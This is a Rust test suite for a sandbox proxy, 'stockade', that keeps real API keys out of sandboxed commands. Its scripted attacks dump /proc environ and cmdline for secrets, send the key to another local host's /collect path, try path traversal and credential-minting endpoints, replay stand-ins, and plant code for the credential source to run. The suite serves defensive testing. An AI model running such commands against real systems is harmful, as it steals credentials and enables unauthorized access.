//! Credentials that never enter the sandbox (`--credential`, `[credentials]`): the command
//! holds a per-run stand-in; stockade's proxy puts the real value on requests to the route's
//! upstream (a local HTTPS test double with its own CA) and nowhere else.
//!
//! Each attack is paired with its control: the same request with the run's own stand-in on
//! the route succeeds and the upstream receives the real value.

use std::io::{BufRead, BufReader, Write};
use std::net::TcpListener;
use std::sync::{Arc, Mutex};

use attacks::upstream::{Seen, Upstream};
use attacks::*;

/// A fixture, an upstream and a policy file routing `anthropic` to it; the real value in the
/// caller's `ANTHROPIC_API_KEY`.
struct Setup {
    fx: Fixture,
    up: Upstream,
    policy: String,
    real: String,
}

impl Setup {
    fn new() -> Setup {
        let fx = Fixture::new();
        let up = Upstream::start();
        let policy = fx.out_file("credentials.toml");
        write_file(
            &policy,
            format!("[credentials.anthropic]\nupstream = \"{}\"\n", up.url()),
            0o644,
        );
        let real = format!("sk-real-{}", fx.marker("apikey"));
        Setup {
            policy: policy.display().to_string(),
            fx,
            up,
            real,
        }
    }

    /// `stockade run --policy P OPTS --shell SCRIPT` with the real value in the caller's
    /// environment and the upstream's CA trusted.
    fn run(&self, opts: &[&str], script: &str) -> Run {
        let mut all = vec!["--policy", &self.policy];
        all.extend_from_slice(opts);
        self.fx
            .attack(&all, script)
            .env("ANTHROPIC_API_KEY", &self.real)
            .env("SSL_CERT_FILE", &self.up.ca_file)
            .run()
    }

    fn seen(&self) -> Vec<Seen> {
        self.up.seen()
    }

    /// `script` with two credentials on the upstream: the `anthropic` route, and `gitlab`
    /// masked at its address (real value `gitlab`).
    fn run_with_gitlab(&self, gitlab: &str, script: &str) -> Outcome {
        let port = self.up.port;
        let policy = self.fx.out_file("with-gitlab.toml");
        write_file(
            &policy,
            format!(
                "[credentials.anthropic]\nupstream = \"{}\"\n[credentials.gitlab]\nhosts = [\"127.0.0.1:{port}\"]\n[network]\nallow_hosts = [\"127.0.0.1:{port}\"]\n",
                self.up.url()
            ),
            0o644,
        );
        self.fx
            .attack(&["--policy", &policy.display().to_string()], script)
            .env("ANTHROPIC_API_KEY", &self.real)
            .env("GITLAB_TOKEN", gitlab)
            .env("SSL_CERT_FILE", &self.up.ca_file)
            .run()
            .outcome()
    }
}

/// `curl` a route path with the key header given, printing the HTTP status and body.
fn curl(header: &str, path: &str, extra: &str) -> String {
    format!(
        "curl -sS {extra} -o /dev/stdout -w ' status=%{{http_code}}\\n' -H \"x-api-key: {header}\" \"$ANTHROPIC_BASE_URL{path}\""
    )
}

#[test]
fn the_route_gets_the_real_value_and_the_sandbox_sees_only_a_stand_in() {
    let s = Setup::new();
    let rec = s.fx.records();
    let mut opts = rec.opts();
    opts.extend(["--credential", "anthropic"]);
    // Origin-form to the proxy (a client that does not use HTTP_PROXY for it), then
    // absolute-form through HTTP_PROXY (one that does); then everything the command can see
    // of its environment and its processes'.
    let script = format!(
        "{}\n{}\necho \"key=$ANTHROPIC_API_KEY base=$ANTHROPIC_BASE_URL\"\nenv\ncat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n'\ncat /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' ' '",
        curl(
            "$ANTHROPIC_API_KEY",
            "/v1/messages?beta=true",
            "--noproxy '*' -d '{\"x\":1}' -H 'content-type: application/json'"
        ),
        curl("$ANTHROPIC_API_KEY", "/v1/models", ""),
    );
    let run = s.run(&opts, &script);
    let o = run.outcome();
    assert_eq!(o.ran(), 0, "{}", o.run.describe());
    assert_eq!(
        o.run.stdout.matches("{\"ok\":true} status=200").count(),
        2,
        "both requests reach the upstream through the route:\n{}",
        o.run.describe()
    );
    assert!(
        o.run.stdout.contains("key=stockade-standin-")
            && o.run
                .stdout
                .contains("base=http://127.0.0.1:3128/credential/anthropic"),
        "{}",
        o.run.describe()
    );
    o.run.assert_lacks(&s.real);
    let seen = s.seen();
    assert_eq!(seen.len(), 2, "{seen:#?}");
    let host = format!("127.0.0.1:{}", s.up.port);
    for (req, target) in seen.iter().zip(["/v1/messages?beta=true", "/v1/models"]) {
        assert_eq!(req.target, target);
        assert_eq!(req.header("x-api-key"), Some(s.real.as_str()), "{req:#?}");
        assert_eq!(req.header("host"), Some(host.as_str()));
    }
    assert_eq!(seen[0].body, b"{\"x\":1}");
    // Neither record holds the real value; both name the route's requests.
    for file in [&rec.report, &rec.audit] {
        let text = read_text(file).unwrap_or_default();
        assert!(!text.is_empty(), "{} was written", file.display());
        assert!(
            !text.contains(&s.real),
            "{} holds the real value",
            file.display()
        );
        assert!(
            text.contains("credential:anthropic"),
            "{}:\n{text}",
            file.display()
        );
    }
    // Control: the real value is what the caller gave.
    assert!(seen
        .iter()
        .all(|r| r.header("x-api-key") == Some(s.real.as_str())));
}

#[test]
fn server_sent_events_stream_through_the_route() {
    let s = Setup::new();
    let script = curl("$ANTHROPIC_API_KEY", "/v1/stream", "-N --noproxy '*'");
    let o = s.run(&["--credential", "anthropic"], &script).outcome();
    assert_eq!(o.ran(), 0, "{}", o.run.describe());
    let one = o.run.stdout.find("data: {\"n\":1}");
    let two = o.run.stdout.find("data: {\"n\":2}");
    assert!(
        one.is_some() && two.is_some() && one < two,
        "{}",
        o.run.describe()
    );
}

#[test]
fn a_missing_or_wrong_stand_in_is_refused_with_401_and_nothing_reaches_the_upstream() {
    let s = Setup::new();
    let rec = s.fx.records();
    let mut opts = rec.opts();
    opts.extend(["--credential", "anthropic"]);
    let guess = "stockade-standin-0000000000000000000000000000000000000000000000000000000000000000";
    let script = format!(
        "{}\n{}\ncurl -sS --noproxy '*' -o /dev/null -w ' status=%{{http_code}}\\n' \"$ANTHROPIC_BASE_URL/v1/x\"\n{}",
        curl(guess, "/v1/x", "--noproxy '*'"),
        curl("Bearer $ANTHROPIC_API_KEY", "/v1/x", "--noproxy '*'"),
        // Control, in the same run: the run's own stand-in.
        curl("$ANTHROPIC_API_KEY", "/v1/control", "--noproxy '*'"),
    );
    let o = s.run(&opts, &script).outcome();
    assert_eq!(o.ran(), 0, "{}", o.run.describe());
    assert_eq!(
        o.run.stdout.matches("status=401").count(),
        3,
        "{}",
        o.run.describe()
    );
    assert!(o.run.stdout.contains("status=200"), "{}", o.run.describe());
    let seen = s.seen();
    assert_eq!(
        seen.len(),
        1,
        "only the control reached the upstream: {seen:#?}"
    );
    assert_eq!(seen[0].target, "/v1/control");
    let refused: Vec<_> = read_jsonl(&rec.audit)
        .into_iter()
        .filter(|e| json_str(e, "code") == "E_CREDENTIAL_REFUSED")
        .collect();
    assert_eq!(refused.len(), 3, "{:#?}", read_jsonl(&rec.audit));
    assert!(refused
        .iter()
        .all(|e| json_str(e, "rule") == "credential:anthropic"));
}

#[test]
fn a_stand_in_replayed_after_its_run_is_refused() {
    let s = Setup::new();
    let first = s.run(
        &["--credential", "anthropic"],
        "printf %s \"$ANTHROPIC_API_KEY\" > old-token",
    );
    assert_eq!(first.outcome().ran(), 0);
    let old = read_text(&s.fx.ws.join("old-token")).unwrap_or_default();
    assert!(old.starts_with("stockade-standin-"), "{old:?}");
    let script = format!(
        "{}\n{}",
        curl("$(cat old-token)", "/v1/replayed", "--noproxy '*'"),
        curl("$ANTHROPIC_API_KEY", "/v1/own", "--noproxy '*'"),
    );
    let o = s.run(&["--credential", "anthropic"], &script).outcome();
    assert_eq!(o.ran(), 0, "{}", o.run.describe());
    assert!(o.run.stdout.contains("status=401"), "{}", o.run.describe());
    assert!(
        o.run.stdout.contains("status=200"),
        "control: {}",
        o.run.describe()
    );
    let targets: Vec<_> = s.seen().into_iter().map(|r| r.target).collect();
    assert_eq!(targets, ["/v1/own"]);
}

/// A plain HTTP server recording what it received (the "other host").
fn other_host() -> (u16, Arc<Mutex<Vec<String>>>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap_or_else(|e| panic!("bind: {e}"));
    let port = listener.local_addr().map(|a| a.port()).unwrap_or(0);
    let got = Arc::new(Mutex::new(Vec::new()));
    let g = got.clone();
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let mut head = String::new();
            let mut reader = BufReader::new(match stream.try_clone() {
                Ok(s) => s,
                Err(_) => continue,
            });
            loop {
                let mut line = String::new();
                if reader.read_line(&mut line).unwrap_or(0) == 0 || line == "\r\n" {
                    break;
                }
                head.push_str(&line);
            }
            if let Ok(mut g) = g.lock() {
                g.push(head);
            }
            let _ = stream.write_all(
                b"HTTP/1.1 200 OK\r\ncontent-length: 5\r\nconnection: close\r\n\r\nother",
            );
        }
    });
    (port, got)
}

#[test]
fn the_stand_in_sent_to_another_host_or_with_another_host_header_is_never_swapped() {
    let s = Setup::new();
    let (port, got) = other_host();
    let other = format!("127.0.0.1:{port}");
    let script = format!(
        // To another host the network rules allow: the stand-in goes as it is.
        "curl -sS -H \"x-api-key: $ANTHROPIC_API_KEY\" http://{other}/collect; echo\n\
         # An absolute URL naming the other host with the route's path.\n\
         curl -sS -H \"x-api-key: $ANTHROPIC_API_KEY\" http://{other}/credential/anthropic/v1/x; echo\n\
         # The route, with the other host in Host: it still goes to the route's upstream.\n\
         {}",
        curl("$ANTHROPIC_API_KEY", "/v1/hosted", &format!("--noproxy '*' -H 'Host: {other}'")),
    );
    let o = s
        .run(
            &["--credential", "anthropic", "--allow-host", &other],
            &script,
        )
        .outcome();
    assert_eq!(o.ran(), 0, "{}", o.run.describe());
    let got = got.lock().map(|g| g.clone()).unwrap_or_default();
    assert_eq!(got.len(), 2, "{got:#?}\n{}", o.run.describe());
    for head in &got {
        assert!(
            !head.contains(&s.real),
            "the other host got the real value:\n{head}"
        );
        assert!(head.contains("x-api-key: stockade-standin-"), "{head}");
    }
    // Control: the route's request carried the real value, to its own host.
    let seen = s.seen();
    assert_eq!(seen.len(), 1, "{seen:#?}");
    assert_eq!(seen[0].target, "/v1/hosted");
    assert_eq!(seen[0].header("x-api-key"), Some(s.real.as_str()));
    assert_eq!(
        seen[0].header("host"),
        Some(format!("127.0.0.1:{}", s.up.port).as_str())
    );
}

#[test]
fn dot_segments_cannot_leave_the_upstream_path() {
    let fx = Fixture::new();
    let up = Upstream::start();
    let policy = fx.out_file("p.toml");
    write_file(
        &policy,
        format!(
            "[credentials.openai]\nupstream = \"{}/v1\"\nsource = {{ env = \"REAL\" }}\n",
            up.url()
        ),
        0o644,
    );
    let script = "for p in /../admin /%2e%2E/admin /chat/completions; do \
        curl -sS --path-as-is --noproxy '*' -o /dev/null -w \"$p %{http_code}\\n\" \
        -H \"authorization: Bearer $OPENAI_API_KEY\" \"$OPENAI_BASE_URL$p\"; done";
    let o = fx
        .attack(&["--policy", &policy.display().to_string()], script)
        .env("REAL", "real-openai-value")
        .env("SSL_CERT_FILE", &up.ca_file)
        .run()
        .outcome();
    assert_eq!(o.ran(), 0, "{}", o.run.describe());
    assert!(
        o.run.stdout.contains("/../admin 400") && o.run.stdout.contains("/%2e%2E/admin 400"),
        "{}",
        o.run.describe()
    );
    assert!(
        o.run.stdout.contains("/chat/completions 200"),
        "control: {}",
        o.run.describe()
    );
    let targets: Vec<_> = up.seen().into_iter().map(|r| r.target).collect();
    assert_eq!(targets, ["/v1/chat/completions"]);
}

#[test]
fn a_source_that_gives_nothing_stops_the_run_before_anything_runs() {
    let s = Setup::new();
    let tripwire = s.fx.ws.join("ran");
    let script = format!("touch {}", sh_quote(&tripwire));
    // Unset variable.
    let run =
        s.fx.sandbox(
            &["--policy", &s.policy, "--credential", "anthropic"],
            &script,
        )
        .env("SSL_CERT_FILE", &s.up.ca_file)
        .run();
    run.assert_code(125)
        .assert_stderr_contains("E_CREDENTIAL_UNAVAILABLE");
    run.assert_stderr_contains("ANTHROPIC_API_KEY");
    // A file source the command could rewrite (in the workspace).
    write_file(&s.fx.ws.join("key.txt"), "sk-in-workspace\n", 0o644);
    let from_ws = format!("anthropic=file:{}", s.fx.ws.join("key.txt").display());
    let run =
        s.fx.sandbox(&["--policy", &s.policy, "--credential", &from_ws], &script)
            .env("SSL_CERT_FILE", &s.up.ca_file)
            .run();
    run.assert_code(125)
        .assert_stderr_contains("E_CREDENTIAL_UNAVAILABLE");
    run.assert_stderr_contains("which the command can write");
    assert!(!tripwire.exists(), "the command ran");
    // A value too short to be told from other text in answers (it could not be masked).
    let run =
        s.fx.sandbox(
            &["--policy", &s.policy, "--credential", "anthropic"],
            &script,
        )
        .env("SSL_CERT_FILE", &s.up.ca_file)
        .env("ANTHROPIC_API_KEY", "sk-1234")
        .run();
    run.assert_code(125)
        .assert_stderr_contains("E_CREDENTIAL_UNAVAILABLE");
    run.assert_stderr_contains("at least 8 characters");
    assert!(!tripwire.exists(), "the command ran");
    // Control: a file outside the writable roots works.
    write_file(&s.fx.root.join("key.txt"), "sk-outside\n", 0o644);
    let outside = format!("anthropic=file:{}", s.fx.root.join("key.txt").display());
    let run =
        s.fx.sandbox(&["--policy", &s.policy, "--credential", &outside], &script)
            .env("SSL_CERT_FILE", &s.up.ca_file)
            .run();
    run.assert_success();
    assert!(tripwire.exists());
}

#[test]
fn passing_the_real_value_inside_as_well_is_refused() {
    let s = Setup::new();
    let run = s.run(
        &["--credential", "anthropic", "--env", "ANTHROPIC_API_KEY"],
        "true",
    );
    run.assert_code(125)
        .assert_stderr_contains("E_POLICY_INVALID");
    let leak = format!("LEAK={}", s.real);
    let run = s.run(&["--credential", "anthropic", "--env", &leak], "true");
    run.assert_code(125)
        .assert_stderr_contains("holds the real value of credential `anthropic`");
    assert!(!run.stderr.contains(&s.real), "{}", run.stderr);
    // Control: without the credential, the variable does pass.
    let o =
        s.fx.attack(&["--env", &leak], "echo \"$LEAK\"")
            .run()
            .outcome();
    assert_eq!(o.ran(), 0, "{}", o.run.describe());
    o.run.assert_stdout_contains(&s.real);
}

#[test]
fn stockade_holding_real_values_makes_no_core_file_and_its_memory_is_closed() {
    let s = Setup::new();
    // The run sleeps while the test looks at stockade's process from outside.
    let mut child =
        s.fx.sandbox(
            &["--policy", &s.policy, "--credential", "anthropic"],
            "sleep 5",
        )
        .env("ANTHROPIC_API_KEY", &s.real)
        .env("SSL_CERT_FILE", &s.up.ca_file)
        .spawn();
    let pid = child.id();
    std::thread::sleep(std::time::Duration::from_millis(1500));
    let limits = std::fs::read_to_string(format!("/proc/{pid}/limits")).unwrap_or_default();
    let core = limits
        .lines()
        .find(|l| l.starts_with("Max core file size"))
        .unwrap_or("");
    assert!(core.split_whitespace().nth(4) == Some("0"), "{limits}");
    let mem = std::fs::File::open(format!("/proc/{pid}/mem"));
    if !is_root() {
        // Same user, no CAP_SYS_PTRACE: the supervisor is not dumpable, so its memory is closed.
        assert!(
            mem.is_err(),
            "stockade's memory was readable by the same user"
        );
    }
    let _ = child.wait();
    // Control: a run without credentials keeps the defaults (its memory readable by its user).
    let mut plain = s.fx.sandbox(&[], "sleep 3").spawn();
    std::thread::sleep(std::time::Duration::from_millis(1000));
    let mem = std::fs::File::open(format!("/proc/{}/mem", plain.id()));
    assert!(mem.is_ok(), "control: {mem:?}");
    let _ = plain.wait();
}

#[test]
fn the_real_value_never_comes_back_in_a_response() {
    let s = Setup::new();
    let script = "curl -sS --noproxy '*' -D - -H \"x-api-key: $ANTHROPIC_API_KEY\" \"$ANTHROPIC_BASE_URL/v1/echo\"; echo\n\
         curl -sS --noproxy '*' -o /dev/null -w 'trace=%{http_code}\\n' -X TRACE -H \"x-api-key: $ANTHROPIC_API_KEY\" \"$ANTHROPIC_BASE_URL/v1/echo\"";
    let o = s.run(&["--credential", "anthropic"], script).outcome();
    assert_eq!(o.ran(), 0, "{}", o.run.describe());
    o.run.assert_lacks(&s.real);
    let masked = "X".repeat(s.real.len());
    assert!(
        o.run.stdout.contains(&format!("key={masked}"))
            && o.run.stdout.contains(&format!("?k={masked}")),
        "{}",
        o.run.describe()
    );
    assert!(o.run.stdout.contains("trace=405"), "{}", o.run.describe());
    // Control: the upstream did send the real value back (it reflected what it received).
    let seen = s.seen();
    assert_eq!(seen.len(), 1, "TRACE never reached it: {seen:#?}");
    assert_eq!(seen[0].header("x-api-key"), Some(s.real.as_str()));
}

#[test]
fn an_echo_of_a_guess_does_not_tell_whether_it_starts_the_real_value() {
    // `/v1/echo` ends its body with the request's target, text the command chose. Masking a
    // guess there only when it starts the real value would answer "right so far?" byte by
    // byte. A right start and a wrong one of the same length come back alike, as sent.
    let s = Setup::new();
    let right = &s.real[..12];
    let wrong: String = right.chars().rev().collect();
    assert_ne!(right, wrong);
    let script = format!(
        "for g in {right} {wrong}; do curl -sS --noproxy '*' -H \"x-api-key: $ANTHROPIC_API_KEY\" \"$ANTHROPIC_BASE_URL/v1/echo?g=$g\"; echo; done"
    );
    let o = s.run(&["--credential", "anthropic"], &script).outcome();
    assert_eq!(o.ran(), 0, "{}", o.run.describe());
    o.run.assert_stdout_contains(&format!("?g={right}\n"));
    o.run.assert_stdout_contains(&format!("?g={wrong}\n"));
    // Control: the whole value, reflected in the same body, is masked.
    let masked = "X".repeat(s.real.len());
    o.run.assert_stdout_contains(&format!("key={masked}"));
    o.run.assert_lacks(&s.real);
}

#[test]
fn endpoints_that_mint_lasting_credentials_are_refused_and_no_second_key_rides_along() {
    let s = Setup::new();
    let script = format!(
        "{}\n{}\n{}",
        curl(
            "$ANTHROPIC_API_KEY",
            "/v1/organizations/api_keys",
            "--noproxy '*'"
        ),
        curl(
            "$ANTHROPIC_API_KEY",
            "//V1/%6Frganizations/invites",
            "--noproxy '*' --path-as-is"
        ),
        // Control: an ordinary endpoint, with a key of the command's own beside the stand-in.
        curl(
            "$ANTHROPIC_API_KEY",
            "/v1/echo",
            "--noproxy '*' -H 'authorization: Bearer sk-ant-attacker' -H 'cookie: s=attacker'"
        ),
    );
    let o = s.run(&["--credential", "anthropic"], &script).outcome();
    assert_eq!(o.ran(), 0, "{}", o.run.describe());
    assert_eq!(
        o.run.stdout.matches("status=403").count(),
        2,
        "{}",
        o.run.describe()
    );
    let seen = s.seen();
    assert_eq!(seen.len(), 1, "{seen:#?}");
    assert_eq!(seen[0].header("x-api-key"), Some(s.real.as_str()));
    assert_eq!(seen[0].header("authorization"), None, "{seen:#?}");
    assert_eq!(seen[0].header("cookie"), None, "{seen:#?}");
}

#[test]
fn a_file_source_is_hidden_from_the_command() {
    let s = Setup::new();
    let key = s.fx.home.join("keys/anthropic.txt");
    write_file(&key, format!("{}\n", s.real), 0o644);
    let flag = format!("anthropic=file:{}", key.display());
    let script = format!("cat {} ; echo", sh_quote(&key));
    let o =
        s.fx.attack(&["--policy", &s.policy, "--credential", &flag], &script)
            .env("SSL_CERT_FILE", &s.up.ca_file)
            .run()
            .outcome();
    o.ran();
    o.run.assert_lacks(&s.real);
    // Control: without the credential the file is readable inside.
    let o = s.fx.attack(&[], &script).run().outcome();
    o.ran();
    o.run.assert_stdout_contains(&s.real);
}

#[test]
fn a_command_source_never_runs_what_the_command_could_plant() {
    let s = Setup::new();
    let pwned = s.fx.root.join("pwned");
    // A script in the workspace, named as the source command's argument.
    let getkey = s.fx.ws.join("getkey.sh");
    write_file(
        &getkey,
        format!("touch {}\necho sk-planted\n", sh_quote(&pwned)),
        0o755,
    );
    // A module in the workspace that `python3 -m` would import from its current directory.
    write_file(
        &s.fx.ws.join("keyhelper.py"),
        format!(
            "open({:?}, 'w').write('x')\nprint('sk-planted-module')\n",
            pwned.display()
        ),
        0o644,
    );
    let policy = s.fx.out_file("command.toml");
    for source in [
        format!("command = [\"/bin/sh\", \"{}\"]", getkey.display()),
        "command = [\"/usr/bin/python3\", \"-m\", \"keyhelper\"]".to_owned(),
    ] {
        write_file(
            &policy,
            format!(
                "[credentials.anthropic]\nupstream = \"{}\"\nsource = {{ {source} }}\n",
                s.up.url()
            ),
            0o644,
        );
        let run =
            s.fx.sandbox(&["--policy", &policy.display().to_string()], "true")
                .env("SSL_CERT_FILE", &s.up.ca_file)
                .run();
        run.assert_code(125)
            .assert_stderr_contains("E_CREDENTIAL_UNAVAILABLE");
        assert!(
            !pwned.exists(),
            "{source}: the planted code ran on the host"
        );
    }
    // Control: the same module runs when python3 -m starts in the workspace.
    s.fx.host("/usr/bin/python3 -m keyhelper")
        .run()
        .assert_success();
    assert!(pwned.exists());
    // And a command outside the writable roots gives the value.
    let outside = s.fx.root.join("getkey.sh");
    write_file(&outside, "echo sk-from-command\n", 0o755);
    write_file(
        &policy,
        format!(
            "[credentials.anthropic]\nupstream = \"{}\"\nsource = {{ command = [\"/bin/sh\", \"{}\"] }}\n",
            s.up.url(),
            outside.display()
        ),
        0o644,
    );
    let script = curl("$ANTHROPIC_API_KEY", "/v1/ok", "--noproxy '*'");
    let o =
        s.fx.attack(&["--policy", &policy.display().to_string()], &script)
            .env("SSL_CERT_FILE", &s.up.ca_file)
            .run()
            .outcome();
    assert_eq!(o.ran(), 0, "{}", o.run.describe());
    let seen = s.seen();
    assert_eq!(
        seen.last().and_then(|r| r.header("x-api-key")),
        Some("sk-from-command")
    );
}

#[test]
fn a_real_value_the_callers_shell_expanded_into_the_command_line_is_refused() {
    let s = Setup::new();
    let script = format!("echo inside: {}", s.real);
    let run =
        s.fx.sandbox(
            &["--policy", &s.policy, "--credential", "anthropic"],
            &script,
        )
        .env("ANTHROPIC_API_KEY", &s.real)
        .env("SSL_CERT_FILE", &s.up.ca_file)
        .run();
    run.assert_code(125)
        .assert_stderr_contains("the command line holds the real value");
    assert!(!run.stdout.contains(&s.real) && !run.stderr.contains(&s.real));
}

/// README's recipe for each built-in route, against the local upstream (only the upstream, or
/// for masked credentials the hosts, changed): the client uses the route's own variables and
/// header, and the upstream receives the real value there.
#[test]
fn every_builtin_route_puts_the_real_value_where_its_api_expects_it() {
    let fx = Fixture::new();
    let up = Upstream::start();
    let port = up.port;
    let url = up.url();
    let cases: [(&str, &str, &str, &str, &str); 5] = [
        (
            "anthropic",
            "",
            "curl -sS --noproxy '*' -H \"x-api-key: $ANTHROPIC_API_KEY\" -d '{}' \"$ANTHROPIC_BASE_URL/v1/messages\"",
            "/v1/messages",
            "x-api-key",
        ),
        (
            "openai",
            "/v1",
            "curl -sS --noproxy '*' -H \"Authorization: Bearer $OPENAI_API_KEY\" -d '{}' \"$OPENAI_BASE_URL/chat/completions\"",
            "/v1/chat/completions",
            "authorization",
        ),
        (
            "gemini",
            "",
            "curl -sS --noproxy '*' -H \"x-goog-api-key: $GEMINI_API_KEY\" \"$GOOGLE_GEMINI_BASE_URL/v1beta/models\"",
            "/v1beta/models",
            "x-goog-api-key",
        ),
        (
            "github",
            "masked",
            "curl -sS -H \"Authorization: token $GH_TOKEN\" https://127.0.0.1:PORT/user",
            "/user",
            "authorization",
        ),
        (
            "gitlab",
            "masked",
            "curl -sS -H \"PRIVATE-TOKEN: $GITLAB_TOKEN\" https://127.0.0.1:PORT/api/v4/user",
            "/api/v4/user",
            "private-token",
        ),
    ];
    for (i, (name, path, script, target, header)) in cases.into_iter().enumerate() {
        let real = format!("real-{name}-{}", fx.id);
        let policy = fx.out_file(&format!("{name}.toml"));
        let table = if path == "masked" {
            format!(
                "hosts = [\"127.0.0.1:{port}\"]\n[network]\nallow_hosts = [\"127.0.0.1:{port}\"]\n"
            )
        } else {
            format!("upstream = \"{url}{path}\"\n")
        };
        write_file(&policy, format!("[credentials.{name}]\n{table}"), 0o644);
        let var = policy::credentials::builtin(name)
            .map(|b| b.default_env)
            .unwrap_or_default();
        let o = fx
            .attack(
                &["--policy", &policy.display().to_string()],
                &script.replace("PORT", &port.to_string()),
            )
            .env(var, &real)
            .env("SSL_CERT_FILE", &up.ca_file)
            .run()
            .outcome();
        assert_eq!(o.ran(), 0, "{name}: {}", o.run.describe());
        o.run.assert_stdout_contains("{\"ok\":true}");
        o.run.assert_lacks(&real);
        let seen = up.seen();
        assert_eq!(seen.len(), i + 1, "{name}: {seen:#?}");
        let last = &seen[i];
        assert_eq!(last.target, target, "{name}");
        let expected = match header {
            "authorization" if name == "openai" => format!("Bearer {real}"),
            "authorization" => format!("token {real}"),
            _ => real.clone(),
        };
        assert_eq!(
            last.header(header),
            Some(expected.as_str()),
            "{name}: {last:#?}"
        );
    }
}

#[test]
fn an_upstream_that_compresses_anyway_is_refused_and_echoes_of_masked_sentinels_stay_sentinels() {
    let s = Setup::new();
    let port = s.up.port;
    let real_gl = format!("glpat-real-{}", s.fx.id);
    let script = format!(
        // A route whose upstream compresses though asked not to: refused, nothing comes back.
        "{}\n\
         # The masked sentinel in a header that is not a credential's, echoed: still a sentinel.\n\
         curl -sS -H \"PRIVATE-TOKEN: $GITLAB_TOKEN\" -H \"x-a: $GITLAB_TOKEN\" -H 'accept-encoding: gzip' https://127.0.0.1:{port}/echo; echo\n\
         # The masked host's minting endpoint below its API path.\n\
         curl -sS -o /dev/null -w 'mint=%{{http_code}}\\n' -X POST -H \"PRIVATE-TOKEN: $GITLAB_TOKEN\" https://127.0.0.1:{port}/api/v4/user/personal_access_tokens\n\
         curl -sS -o /dev/null -w 'dots=%{{http_code}}\\n' --path-as-is -H \"PRIVATE-TOKEN: $GITLAB_TOKEN\" https://127.0.0.1:{port}/api/v4/x/../user/keys",
        curl("$ANTHROPIC_API_KEY", "/v1/gzip", "--noproxy '*'"),
    );
    let o = s.run_with_gitlab(&real_gl, &script);
    assert_eq!(o.ran(), 0, "{}", o.run.describe());
    o.run.assert_lacks(&s.real);
    o.run.assert_lacks(&real_gl);
    assert!(o.run.stdout.contains("status=502"), "{}", o.run.describe());
    assert!(
        o.run.stdout.contains("mint=403") && o.run.stdout.contains("dots=400"),
        "{}",
        o.run.describe()
    );
    let seen = s.seen();
    // Control: the upstream got both real values where they belong, and asked for identity.
    let gz = seen.iter().find(|r| r.target == "/v1/gzip");
    assert_eq!(
        gz.and_then(|r| r.header("x-api-key")),
        Some(s.real.as_str())
    );
    assert_eq!(
        gz.and_then(|r| r.header("accept-encoding")),
        Some("identity")
    );
    let echo = seen.iter().find(|r| r.target == "/echo");
    assert_eq!(
        echo.and_then(|r| r.header("private-token")),
        Some(real_gl.as_str())
    );
    assert!(echo
        .and_then(|r| r.header("x-a"))
        .is_some_and(|v| v != real_gl));
    assert!(!seen
        .iter()
        .any(|r| r.target.contains("personal_access_tokens") || r.target.contains("..")));
}

#[test]
fn the_real_value_never_comes_back_in_the_status_line() {
    let s = Setup::new();
    let port = s.up.port;
    let real_gl = format!("glpat-real-{}", s.fx.id);
    let script = format!(
        "curl -sv --noproxy '*' -H \"x-api-key: $ANTHROPIC_API_KEY\" \"$ANTHROPIC_BASE_URL/reason\" 2>&1\n\
         curl -sv -H \"PRIVATE-TOKEN: $GITLAB_TOKEN\" https://127.0.0.1:{port}/reason 2>&1"
    );
    let o = s.run_with_gitlab(&real_gl, &script);
    assert_eq!(o.ran(), 0, "{}", o.run.describe());
    // Both answers arrived (the tunnel's own `200` adds a third status line).
    assert!(
        o.run.stdout.matches("< HTTP/1.1 200").count() >= 2,
        "{}",
        o.run.describe()
    );
    o.run.assert_lacks(&s.real);
    o.run.assert_lacks(&real_gl);
    // Control: the upstream got both real values, and put them in its status lines.
    let seen = s.seen();
    assert_eq!(seen.len(), 2, "{seen:#?}");
    assert_eq!(seen[0].header("x-api-key"), Some(s.real.as_str()));
    assert_eq!(seen[1].header("private-token"), Some(real_gl.as_str()));
}
